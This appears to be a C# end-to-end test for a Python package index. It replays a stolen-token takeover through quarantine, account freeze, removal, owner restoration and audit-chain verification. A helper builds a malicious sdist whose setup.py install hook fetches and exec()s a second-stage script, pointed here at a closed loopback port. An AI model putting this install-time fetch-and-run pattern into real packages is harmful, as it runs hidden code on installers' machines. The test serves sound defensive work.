using System.Formats.Tar;
using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text.Json;
using Bulwark.Core.Accounts;
using Bulwark.Core.Audit;
using Bulwark.Core.Data;
using Bulwark.Core.Packaging;
using Bulwark.EndToEnd.Tests.Infrastructure;
using Bulwark.Tests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Bulwark.EndToEnd.Tests;

/// <summary>
/// The 2022 account takeover replayed against a server of its own with mail over real SMTP: a maintainer publishes
/// 1.0; an attacker holding the maintainer's token uploads 1.1 whose setup.py fetches and runs a second stage at
/// install time; two malware reports (one from a trusted observer) quarantine 1.1; pip installs 1.0 and 1.1's
/// file is 404; the responder freezes the account, reviews the window, removes 1.1 and the collaborators are
/// mailed; the owner is restored and uploads 1.2 only once a second factor is enrolled; the audit chain verifies,
/// and stops verifying once one row is edited in the database.
/// </summary>
[Collection(EndToEndCollection.Name)]
public sealed class IncidentReplayTests(EndToEndFixture e2e)
{
    private const string Password = "tundra velvet gossip 41";

    [Fact]
    public async Task The_2022_takeover_is_contained_reviewed_removed_and_the_owner_restored()
    {
        using var smtp = new Aiosmtpd();
        var settings = new Dictionary<string, string>
        {
            ["Bulwark:Email:Mode"] = "Smtp",
            ["Bulwark:Email:Smtp:Host"] = "127.0.0.1",
            ["Bulwark:Email:Smtp:Port"] = smtp.Port.ToString(System.Globalization.CultureInfo.InvariantCulture),
            // aiosmtpd offers no TLS; a relay on loopback is the one place plain SMTP is acceptable.
            ["Bulwark:Email:Smtp:StartTls"] = "None",
            // The response people drive (reports, auto-quarantine, freeze, review, removal, restore) is what this
            // replays, so the upload scan is off here: on, as by default, it holds this payload at upload, before any
            // report (the scan's own tests: ChildInterpreterTests, DetectionTests, UploadScanTests).
            ["Bulwark:Scanning:Enabled"] = "false",
        };
        await using var server = await LiveServer.StartAsync(e2e.NewDirectory("replay-server"), settings);
        var cli = new BulwarkCli(server.DataDirectory, e2e.NewDirectory("replay-cli"), settings);
        using var index = new IndexClient(server);
        var suffix = Guid.NewGuid().ToString("N")[..8];
        var project = $"replay{suffix}";
        var owner = $"own{suffix}";
        var collaborator = $"col{suffix}";

        // The maintainer (with a second factor, as the site rule wants) publishes 1.0; a collaborator joins; the
        // project is years old, as ctx was, so one trusted report alone does not quarantine it.
        await CreateUserAsync(server, owner);
        await CreateUserAsync(server, collaborator);
        await SecondFactors.EnrolAsync(server, owner, securityKey: false);
        var stolen = await server.CreateTokenAsync(owner);
        var v10 = await e2e.Packages.BuildAsync(new PythonProject(project, "1.0", BuildBackend.Hatchling));
        var mark = server.Requests.Mark();
        Check.Succeeded(await e2e.Publish.TwineUploadAsync(server.UploadUrl, stolen, v10.Files), e2e, mark, "the maintainer's twine upload of 1.0");
        await WithDbAsync(server, async db =>
        {
            var row = await db.Projects.SingleAsync(p => p.Name == project);
            var col = await db.Users.SingleAsync(u => u.Username == collaborator);
            db.ProjectRoles.Add(new ProjectRole { ProjectId = row.Id, UserId = col.Id, Role = ProjectRoleKind.Maintainer, CreatedAt = DateTimeOffset.UtcNow });
            row.CreatedAt = DateTimeOffset.UtcNow.AddYears(-8);
            await db.SaveChangesAsync();
        });
        // The compromise window starts after the maintainer's own uploads.
        var since = DateTimeOffset.UtcNow.UtcDateTime.ToString("O");
        await Task.Delay(50);

        // The attacker uploads 1.1 with the stolen token.
        var evil = MaliciousSdist(e2e.NewDirectory("replay-evil"), project, "1.1");
        mark = server.Requests.Mark();
        Check.Succeeded(await e2e.Publish.TwineUploadAsync(server.UploadUrl, stolen, [evil]), e2e, mark, "the attacker's twine upload of 1.1");
        var evilUrl = (await JsonAsync(server, $"pypi/{project}/1.1/json")).GetProperty("urls")[0].GetProperty("url").GetString()!;
        Assert.Equal(HttpStatusCode.OK, (await index.GetAsync(evilUrl)).Status);

        // Report one: a trusted observer through the observation API. Not enough for a project this old.
        var observer = $"obs{suffix}";
        var observerToken = await server.CreateTokenAsync(observer);
        Check.Succeeded(await cli.RunAsync(["user", "role", observer, "observer"]), e2e, 0, "bulwark user role observer");
        using (var http = server.CreateHttpClient())
        {
            using var request = new HttpRequestMessage(HttpMethod.Post, $"danger-api/projects/{project}/observations")
            {
                Content = JsonContent.Create(new { kind = "is_malware", summary = "setup.py runs a second stage fetched at install", inspector_url = "https://inspector.example/replay", version = "1.1" }),
            };
            request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", observerToken);
            var observed = await http.SendAsync(request);
            Assert.True(observed.StatusCode == HttpStatusCode.Accepted, await observed.Content.ReadAsStringAsync());
        }
        Assert.Equal(HttpStatusCode.OK, (await index.GetAsync(evilUrl)).Status);
        // Report two: a user of the index, signed in, through the project's report page.
        var reporter = $"rep{suffix}";
        await CreateUserAsync(server, reporter);
        using (var browser = new HttpClient(new SocketsHttpHandler { CookieContainer = new CookieContainer() }) { BaseAddress = server.BaseUri })
        {
            var login = await browser.GetStringAsync("account/login");
            var signedIn = await browser.PostAsync("account/login", new FormUrlEncodedContent(
                [new("Username", reporter), new("Password", Password), new("__csrf", Csrf(login))]));
            Assert.DoesNotContain("id=\"login-form\"", await signedIn.Content.ReadAsStringAsync());
            var form = await browser.GetStringAsync($"project/{project}/report");
            var sent = await browser.PostAsync($"project/{project}/report", new FormUrlEncodedContent(
                [new("Kind", "Malware"), new("Version", "1.1"), new("Summary", "1.1 downloads code when installed"), new("__csrf", Csrf(form))]));
            Assert.Contains("your report was sent", await sent.Content.ReadAsStringAsync());
        }

        // 1.1 is quarantined: pip gets 1.0 and 1.1's file is gone.
        Assert.Equal(HttpStatusCode.NotFound, (await index.GetAsync(evilUrl)).Status);
        var pip = await PipInstaller.CreateAsync(PipFlavour.DebianVenv, e2e.NewDirectory("replay-pip"), e2e.Tools);
        mark = server.Requests.Mark();
        Check.Succeeded(await pip.InstallAsync(server.IndexUrl, project), e2e, mark, "pip install during the quarantine");
        Assert.Equal("1.0", (await pip.InstalledAsync())[project]);

        // The responder freezes the account: the stolen token gets 403 naming the freeze.
        Check.Succeeded(await cli.RunAsync(["user", "freeze", owner, "--reason", "token stolen; 1.1 runs a downloaded stage"]), e2e, 0, "bulwark user freeze");
        var v12 = await e2e.Packages.BuildAsync(new PythonProject(project, "1.2", BuildBackend.Hatchling));
        mark = server.Requests.Mark();
        var refused = await e2e.Publish.TwineUploadAsync(server.UploadUrl, stolen, v12.Files);
        Check.Failed(refused, e2e, mark, "the stolen token after the freeze");
        Check.OutputContains(refused, "403", e2e, mark);
        Check.OutputContains(refused, "frozen", e2e, mark);

        // The review lists the 1.1 upload with the token that made it.
        var tokenId = await WithDbAsync(server, db => db.ApiTokens.Where(t => t.User.Username == owner).Select(t => t.Id).SingleAsync());
        var activity = await cli.RunAsync(["user", "activity", owner, "--since", since, "--json"]);
        Check.Succeeded(activity, e2e, 0, "bulwark user activity --json");
        var upload = activity.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement)
            .Single(l => l.GetProperty("type").GetString() == "upload");
        Assert.Equal(("1.1", tokenId.ToString()), (upload.GetProperty("version").GetString(), upload.GetProperty("token_id").GetString()));

        // The one step: tokens revoked, 1.1 removed, the collaborators mailed.
        var respond = await cli.RunAsync(["user", "respond", owner, "--since", since, "--releases", $"{project}==1.1", "--action", "remove", "--reason", "stolen token upload"]);
        Check.Succeeded(respond, e2e, 0, "bulwark user respond");
        Assert.Equal(HttpStatusCode.NotFound, (await index.GetAsync($"pypi/{project}/1.1/json")).Status);
        Assert.Contains("1.1", (await smtp.WaitForAsync($"{collaborator}@example.com", $"Security response on {project}: releases removed")).TextBody);

        // Restored, the owner must enrol a second factor before uploading again.
        Check.Succeeded(await cli.RunAsync(["user", "restore", owner, "--since", since]), e2e, 0, "bulwark user restore");
        Assert.Contains(Path.GetFileName(evil), (await smtp.WaitForAsync($"{owner}@example.com", "Your account was restored")).TextBody);
        var fresh = await server.CreateTokenAsync(owner);
        mark = server.Requests.Mark();
        var noFactor = await e2e.Publish.TwineUploadAsync(server.UploadUrl, fresh, v12.Files);
        Check.Failed(noFactor, e2e, mark, "the restored owner's upload before enrolling a second factor");
        Check.OutputContains(noFactor, "two-factor authentication required", e2e, mark);
        await SecondFactors.EnrolAsync(server, owner, securityKey: true);
        mark = server.Requests.Mark();
        Check.Succeeded(await e2e.Publish.TwineUploadAsync(server.UploadUrl, fresh, v12.Files), e2e, mark, "the restored owner's upload of 1.2 with a security key");

        // The audit chain holds, and one edited row breaks it.
        Check.Succeeded(await cli.RunAsync(["audit", "verify"]), e2e, 0, "bulwark audit verify");
        var edited = await WithDbAsync(server, db => db.AuditEvents.Where(e => e.Type == AuditEventType.CompromiseResponse)
            .ExecuteUpdateAsync(u => u.SetProperty(e => e.Details, "{\"releases\":[]}")));
        Assert.Equal(1, edited);
        var broken = await cli.RunAsync(["audit", "verify"]);
        Assert.True(broken.ExitCode == 3, broken.Describe());
        Assert.Contains("broken at event", broken.Stderr);
    }

    /// <summary>An sdist whose setup.py installs a command that fetches and runs a second stage (here from a closed port).</summary>
    private static string MaliciousSdist(string directory, string name, string version)
    {
        var root = Path.Combine(directory, "src", $"{name}-{version}");
        Directory.CreateDirectory(root);
        File.WriteAllText(Path.Combine(root, "PKG-INFO"), $"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: context helpers\n");
        File.WriteAllText(Path.Combine(root, "setup.py"), $$"""
            from setuptools import setup
            from setuptools.command.install import install


            class PostInstall(install):
                def run(self):
                    install.run(self)
                    import {{name}}_stage
                    {{name}}_stage.main()


            setup(name="{{name}}", version="{{version}}", py_modules=["{{name}}_stage"], cmdclass={"install": PostInstall})
            """);
        File.WriteAllText(Path.Combine(root, $"{name}_stage.py"), """
            import subprocess
            import sys

            SOURCE = "http://127.0.0.1:9/stage2.py"


            def main():
                subprocess.run([sys.executable, "-c", "import urllib.request as u; exec(u.urlopen('%s').read())" % SOURCE], check=False)
            """);
        var path = Path.Combine(directory, $"{name}-{version}.tar.gz");
        using (var file = File.Create(path))
        using (var gzip = new GZipStream(file, CompressionLevel.Optimal))
        {
            TarFile.CreateFromDirectory(root, gzip, includeBaseDirectory: true);
        }
        return path;
    }

    /// <summary>The anti-forgery field of the first form on a page.</summary>
    private static string Csrf(string html) =>
        System.Text.RegularExpressions.Regex.Match(html, "name=\"__csrf\"[^>]*value=\"([^\"]+)\"") is { Success: true } m
            ? WebUtility.HtmlDecode(m.Groups[1].Value)
            : throw new Xunit.Sdk.XunitException($"no __csrf field in:\n{html}");

    private static async Task CreateUserAsync(LiveServer server, string username)
    {
        await using var scope = server.Services.CreateAsyncScope();
        var created = await scope.ServiceProvider.GetRequiredService<UserService>()
            .CreateAsync(username, $"{username}@example.com", Password, false, true, new Actor("e2e", "e2e"));
        Assert.True(created.Succeeded, created.Refusal?.Message);
    }

    private static async Task<T> WithDbAsync<T>(LiveServer server, Func<BulwarkDbContext, Task<T>> work)
    {
        await using var scope = server.Services.CreateAsyncScope();
        return await work(scope.ServiceProvider.GetRequiredService<BulwarkDbContext>());
    }

    private static Task WithDbAsync(LiveServer server, Func<BulwarkDbContext, Task> work) =>
        WithDbAsync(server, async db => { await work(db); return 0; });

    private static async Task<JsonElement> JsonAsync(LiveServer server, string path)
    {
        using var http = server.CreateHttpClient();
        return JsonDocument.Parse(await http.GetStringAsync(path)).RootElement;
    }
}
